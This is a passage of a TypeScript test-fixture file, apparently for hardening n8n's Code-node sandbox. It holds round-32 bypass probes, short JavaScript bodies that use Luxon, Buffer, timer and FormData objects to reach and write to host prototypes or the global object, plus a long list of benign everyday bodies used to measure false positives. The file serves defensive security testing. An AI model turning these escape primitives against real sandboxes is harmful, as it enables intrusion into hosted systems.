    "code": "Object.assign(DateTime.DATE_FULL, {rt32: 1}); return [{json:{wrote: DateTime.DATE_FULL.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "toobject-ctor-typedarray",
    "code": "const O = DateTime.now().toObject().constructor; const TA = O.getPrototypeOf(O.getPrototypeOf(Buffer.prototype)); TA.rt32 = 1; return [{json:{wrote: Buffer.from('a').rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "nu-direct-write",
    "code": "const O = Duration.normalizeUnit('constructor'); const TA = O.getPrototypeOf(O.getPrototypeOf(Buffer.prototype)); TA.rt32 = 1; return [{json:{wrote: Buffer.from('a').rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "timeout-this-proto",
    "code": "let t; await new Promise(r => setTimeout(function(){ t = this; r(); }, 0)); t.constructor.prototype.rt32 = 1; const t2 = setTimeout(()=>{}, 1); clearTimeout(t2); return [{json:{wrote: t2.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "immediate-this-proto",
    "code": "let t; await new Promise(r => setImmediate(function(){ t = this; r(); })); t.constructor.prototype.rt32 = 1; const t2 = setImmediate(()=>{}); clearImmediate(t2); return [{json:{wrote: t2.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "timeout-ctor-proto",
    "code": "const t = setTimeout(()=>{}, 0); const T = t.constructor; T.prototype.rt32 = 1; clearTimeout(t); const t2 = setTimeout(()=>{}, 1); clearTimeout(t2); return [{json:{wrote: t2.rt32 === 1}}];",
    "node24": true
  },
  {
    "id": "formdata-host-global-write",
    "code": "const fd = new FormData(); fd.append('a','b'); let g; fd.forEach(function(){ g = this; }); g.rt32 = 1; return [{json:{wrote: g.rt32 === 1}}];",
    "node24": true
  }
];

/** The round's everyday bodies: its false positives (4), then its pure bodies. */
export const ROUND32_EVERYDAY: RoundEntry[] = [
  {
    "id": "ev-luxon-mapunits-function",
    "code": "const d = Duration.fromObject({ hours: 1 }).mapUnits(function (x) { return x * 2; }); return [{ json: d.toObject() }];",
    "node24": true
  },
  {
    "id": "ev-define-property-own",
    "code": "const obj = {}; Object.defineProperty(obj, 'x', { value: 1, enumerable: true }); return [{ json: { obj } }];",
    "node24": true
  },
  {
    "id": "ev-proxy-defaults",
    "code": "const p = new Proxy({}, { get: (t, k) => (k in t ? t[k] : 'default') }); return [{ json: { v: p.anything } }];",
    "node24": true
  },
  {
    "id": "ev-reflect-ownkeys",
    "code": "const s = Symbol('tag'); const o = { [s]: 1, a: 2 }; return [{ json: { keys: Reflect.ownKeys(o).length } }];",
    "node24": true
  },
  {
    "id": "ev-map-names",
    "code": "return $input.all().map(item => ({ json: { name: item.json.name.toUpperCase(), id: item.json.id } }));",
    "node24": true
  },
  {
    "id": "ev-filter-score",
    "code": "return items.filter(i => i.json.score > 10);",
    "node24": true
  },
  {
    "id": "ev-luxon-format",
    "code": "return items.map(i => ({ json: { ...i.json, day: DateTime.fromISO('2024-03-05T10:00:00Z').toFormat('yyyy-LL-dd') } }));",
    "node24": true
  },
  {
    "id": "ev-luxon-plus-diff",
    "code": "const start = DateTime.fromISO('2024-01-01'); const end = start.plus({ days: 10 }); return [{ json: { days: end.diff(start, 'days').days } }];",
    "node24": true
  },
  {
    "id": "ev-luxon-setzone",
    "code": "const d = DateTime.fromISO('2024-06-01T12:00:00Z').setZone('Europe/Berlin'); return [{ json: { local: d.toISO(), offset: d.offset } }];",
    "node24": true
  },
  {
    "id": "ev-luxon-duration",
    "code": "const d = Duration.fromObject({ hours: 2, minutes: 30 }); return [{ json: { minutes: d.as('minutes'), human: d.toFormat('hh:mm') } }];",
    "node24": true
  },
  {
    "id": "ev-luxon-interval",
    "code": "const i = Interval.fromDateTimes(DateTime.fromISO('2024-01-01'), DateTime.fromISO('2024-02-01')); return [{ json: { weeks: Math.floor(i.length('weeks')) } }];",
    "node24": true
  },
  {
    "id": "ev-luxon-get-year",
    "code": "const d = DateTime.fromISO('2024-07-04'); return [{ json: { year: d.get('year'), month: d.get('month') } }];",
    "node24": true
  },
  {
    "id": "ev-luxon-startof",
    "code": "const d = DateTime.fromISO('2024-07-04T15:22:00'); return [{ json: { start: d.startOf('month').toISODate(), end: d.endOf('week').toISODate() } }];",
    "node24": true
  },
  {
    "id": "ev-luxon-tolocale",
    "code": "return [{ json: { s: DateTime.fromISO('2024-07-04').setLocale('de').toLocaleString(DateTime.DATE_FULL) } }];",
    "node24": true
  },
  {
    "id": "ev-group-by-tag",
    "code": "const groups = {}; for (const item of items) { for (const tag of item.json.tags) { (groups[tag] ??= []).push(item.json.name); } } return Object.entries(groups).map(([tag, names]) => ({ json: { tag, names } }));",
    "node24": true
  },
  {
    "id": "ev-map-set",
    "code": "const seen = new Set(); const byId = new Map(); for (const { json } of items) { seen.add(json.email); byId.set(json.id, json.name); } return [{ json: { unique: seen.size, names: [...byId.values()] } }];",
    "node24": true
  },
  {
    "id": "ev-json-roundtrip",
    "code": "const copy = JSON.parse(JSON.stringify(items.map(i => i.json))); copy[0].name = 'x'; return [{ json: { copy } }];",
    "node24": true
  },
  {
    "id": "ev-regex-email-domain",
    "code": "return items.map(i => { const m = /@([\\w.-]+)$/.exec(i.json.email); return { json: { domain: m ? m[1] : null } }; });",
    "node24": true
  },
  {
    "id": "ev-regex-named-groups",
    "code": "const m = 'order-2024-17'.match(/order-(?<year>\\d+)-(?<n>\\d+)/); return [{ json: { year: Number(m.groups.year), n: Number(m.groups.n) } }];",
    "node24": true
  },
  {
    "id": "ev-replaceall-slug",
    "code": "return items.map(i => ({ json: { slug: i.json.name.toLowerCase().replaceAll(/[^a-z0-9]+/g, '-') } }));",
    "node24": true
  },
  {
    "id": "ev-class-model",
    "code": "class Person { #name; constructor(n) { this.#name = n; } get initials() { return this.#name.split(' ').map(p => p[0]).join(''); } } return items.map(i => ({ json: { initials: new Person(i.json.name).initials } }));",
    "node24": true
  },
  {
    "id": "ev-async-await",
    "code": "const wait = (ms) => new Promise(r => setTimeout(r, ms)); await wait(1); return [{ json: { done: true } }];",
    "node24": true
  },
  {
    "id": "ev-try-catch-json",
    "code": "let parsed; try { parsed = JSON.parse('{bad'); } catch (e) { parsed = { error: e.message }; } return [{ json: parsed }];",
    "node24": true
  },
  {
    "id": "ev-reduce-sum",
    "code": "const total = items.reduce((acc, i) => acc + i.json.score, 0); return [{ json: { total, avg: total / items.length } }];",
    "node24": true
  },
  {
    "id": "ev-sort-by-name",
    "code": "return [...items].sort((a, b) => a.json.name.localeCompare(b.json.name));",
    "node24": true
  },
  {
    "id": "ev-destructure-rename",
    "code": "return items.map(({ json: { id, name: fullName, ...rest } }) => ({ json: { id, fullName, keys: Object.keys(rest) } }));",
    "node24": true
  },
  {
    "id": "ev-each-item",
    "code": "$json.processed = true; $json.len = $json.name.length; return $input.item;",
    "mode": "runOnceForEachItem",
    "node24": true
  },
  {
    "id": "ev-buffer-base64",
    "code": "return items.map(i => ({ json: { b64: Buffer.from(i.json.email).toString('base64') } }));",
    "node24": true
  },
  {
    "id": "ev-btoa-atob",
    "code": "const enc = btoa('hello'); return [{ json: { enc, dec: atob(enc) } }];",
    "node24": true
  },
  {
    "id": "ev-textencoder",
    "code": "const bytes = new TextEncoder().encode('héllo'); return [{ json: { n: bytes.length, back: new TextDecoder().decode(bytes) } }];",
    "node24": true
  },
  {
    "id": "ev-static-data-counter",
    "code": "const sd = $getWorkflowStaticData('global'); sd.count = (sd.count || 0) + 1; return [{ json: { count: sd.count } }];",
    "node24": true
  },
  {
    "id": "ev-intl-number",
    "code": "const f = new Intl.NumberFormat('en-US', { style: 'currency', currency: 'USD' }); return items.map(i => ({ json: { price: f.format(i.json.score) } }));",
    "node24": true
  },
  {
    "id": "ev-promise-all",
    "code": "const results = await Promise.all(items.map(async i => i.json.id * 2)); return [{ json: { results } }];",
    "node24": true
  },
  {
    "id": "ev-generator-chunks",
    "code": "function* chunks(arr, n) { for (let i = 0; i < arr.length; i += n) yield arr.slice(i, i + n); } return [...chunks(items, 1)].map(c => ({ json: { size: c.length } }));",
    "node24": true
  },
  {
    "id": "ev-object-fromentries",
    "code": "return items.map(i => ({ json: Object.fromEntries(Object.entries(i.json).filter(([k, v]) => typeof v !== 'object')) }));",
    "node24": true
  },
  {
    "id": "ev-optional-chaining",
    "code": "return items.map(i => ({ json: { first: i.json.tags?.[0] ?? 'none', city: i.json.address?.city ?? 'unknown' } }));",
    "node24": true
  },
  {
    "id": "ev-date-js",
    "code": "const d = new Date('2024-01-01T00:00:00Z'); d.setUTCDate(d.getUTCDate() + 1); return [{ json: { iso: d.toISOString() } }];",
    "node24": true
  },
  {
    "id": "ev-luxon-fromformat",
    "code": "const d = DateTime.fromFormat('05/03/2024', 'dd/MM/yyyy'); return [{ json: { iso: d.toISODate(), weekday: d.weekdayLong } }];",
    "node24": true
  },
  {
    "id": "ev-luxon-now-relative",
    "code": "const d = DateTime.now().minus({ hours: 3 }); return [{ json: { rel: d.toRelative(), valid: d.isValid } }];",
    "node24": true
  },
  {
    "id": "ev-structured-keys",
    "code": "const out = []; for (const [i, item] of items.entries()) { out.push({ json: { index: i, keys: Object.keys(item.json).sort() } }); } return out;",
    "node24": true
  },
  {
    "id": "ev-node-ref",
    "code": "const wh = $('Webhook').first().json; return [{ json: { from: wh.name, wf: $workflow.name, exec: $execution.id } }];",
    "node24": true
  },
  {
    "id": "ev-luxon-max-min",
    "code": "const ds = ['2024-01-03', '2024-01-01', '2024-01-02'].map(s => DateTime.fromISO(s)); return [{ json: { max: DateTime.max(...ds).toISODate(), min: DateTime.min(...ds).toISODate() } }];",
    "node24": true
  },
  {
    "id": "ev-map-function-expr",
    "code": "return [{json:{a: [1,2,3].map(function (x) { return x * 2; })}}];",
    "node24": true
  },
  {
    "id": "ev-luxon-get-dynamic",
    "code": "const d = DateTime.fromISO('2024-07-04'); return items.map(i => ({ json: { v: d.get(i.json.field === 'name' ? 'year' : 'month') } }));",
    "node24": true
  },
  {
    "id": "ev-luxon-mapunits-arrow",
    "code": "const dur = Duration.fromObject({ hours: 1, minutes: 5 }).mapUnits(x => x * 2); return [{ json: dur.toObject() }];",
    "node24": true
  },
  {
    "id": "ev-luxon-splitby",
    "code": "const parts = Interval.fromDateTimes(DateTime.fromISO('2024-01-01'), DateTime.fromISO('2024-01-04')).splitBy({ days: 1 }).map(i => i.start.toISODate()); return [{ json: { parts } }];",
    "node24": true
  },
  {
    "id": "ev-object-assign-own",
    "code": "const o = Object.assign({}, $json, { extra: 1 }); return [{ json: o }];",
    "node24": true
  },
  {
    "id": "ev-math-max-apply",
    "code": "const max = Math.max.apply(null, items.map(i => i.json.score)); return [{ json: { max } }];",
    "node24": true
  },
  {
    "id": "ev-constructor-function",
    "code": "function Counter() { this.n = 0; } Counter.prototype.inc = function () { this.n++; return this; }; const c = new Counter().inc().inc(); return [{ json: { n: c.n } }];",
    "node24": true
  },
  {
    "id": "ev-iterable-class",
    "code": "class Range { constructor(a, b) { this.a = a; this.b = b; } *[Symbol.iterator]() { for (let i = this.a; i < this.b; i++) yield i; } } return [{ json: { r: [...new Range(1, 4)] } }];",
    "node24": true
  },
  {
    "id": "ev-intl-datetimeformat",
    "code": "const fmt = new Intl.DateTimeFormat('en-GB', { dateStyle: 'medium', timeZone: 'UTC' }); return [{ json: { s: fmt.format(new Date(0)) } }];",
    "node24": true
  },
  {
    "id": "ev-luxon-tojsdate",
    "code": "const d = DateTime.fromISO('2024-01-01T10:00:00Z'); return [{ json: { js: d.toJSDate().toISOString(), ms: d.toMillis(), sql: d.toSQLDate() } }];",
    "node24": true
  },
  {
    "id": "ev-csv-build",
    "code": "const rows = items.map(i => i.json); const keys = Object.keys(rows[0]); const csv = [keys.join(','), ...rows.map(r => keys.map(k => JSON.stringify(r[k] ?? '')).join(','))].join('\\n'); return [{ json: { csv } }];",
    "node24": true
  },
  {
    "id": "ev-dynamic-field",
    "code": "return items.map(i => ({ json: { value: i.json[i.json.field] } }));",
    "node24": true
  },
  {
    "id": "ev-luxon-tolocale-opts",
    "code": "return [{ json: { s: DateTime.fromISO('2024-05-01').toLocaleString({ month: 'long', day: 'numeric' }) } }];",
    "node24": true
  },
  {
    "id": "ev-luxon-fromobject-json",
    "code": "const d = DateTime.fromObject({ year: 2024, month: $json.id, day: 1 }); return [{ json: { iso: d.toISODate() } }];",
    "node24": true
  },
  {
    "id": "ev-console-log-items",
    "code": "console.log('items', items); return items;",
    "node24": true
  },
  {
    "id": "ev-private-getter-setter",
    "code": "class Temp { #c = 0; get f() { return this.#c * 9 / 5 + 32; } set c(v) { this.#c = v; } } const t = new Temp(); t.c = 100; return [{ json: { f: t.f } }];",
    "node24": true
  },
  {
    "id": "ev-interval-merge",
    "code": "const ints = [Interval.fromDateTimes(DateTime.fromISO('2024-01-01'), DateTime.fromISO('2024-01-05')), Interval.fromDateTimes(DateTime.fromISO('2024-01-03'), DateTime.fromISO('2024-01-09'))]; return [{ json: { n: Interval.merge(ints).length } }];",
    "node24": true
  },
  {
    "id": "ev-jmespath",
    "code": "const names = $jmespath(items.map(i => i.json), '[].name'); return [{ json: { names } }];",
    "node24": true
  },
  {
    "id": "ev-allsettled",
    "code": "const res = await Promise.allSettled([Promise.resolve(1), Promise.reject(new Error('x'))]); return [{ json: { s: res.map(r => r.status) } }];",
    "node24": true
  },
  {
    "id": "ev-luxon-computed-getter",
    "code": "const d = DateTime.fromISO('2024-02-29'); const key = $json.field === 'name' ? 'year' : 'day'; return [{ json: { v: d[key] } }];",
    "node24": true
  },
  {
    "id": "ev-luxon-diff-get",
    "code": "const units = ['years', 'months']; const dur = DateTime.fromISO('2024-06-01').diff(DateTime.fromISO('2020-01-01'), units); return [{ json: units.reduce((o, u) => ({ ...o, [u]: Math.floor(dur.get(u)) }), {}) }];",
    "node24": true
  },
  {
    "id": "ev-tojson-method",
    "code": "const o = { toJSON() { return { x: 1 }; } }; return [{ json: JSON.parse(JSON.stringify({ o })) }];",
    "node24": true
  }
];

/** The bypasses that hand n8n only a function (the oracle counts a returned capability by identity, functions too), in the order of the lists. */
export const ROUND32_HANDS_N8N_A_FUNCTION = ["ret-evaluate-expression","ret-httprequest","ret-item-proxy-evaluate","ret-item-proxy-evaluate-each","ret-item-proxies-map"];

/** The everyday bodies it reports: Object.defineProperty, Proxy and Reflect.ownKeys (reflection, a capability by policy). */
export const ROUND32_REPORTED = ["ev-define-property-own","ev-proxy-defaults","ev-reflect-ownkeys"];
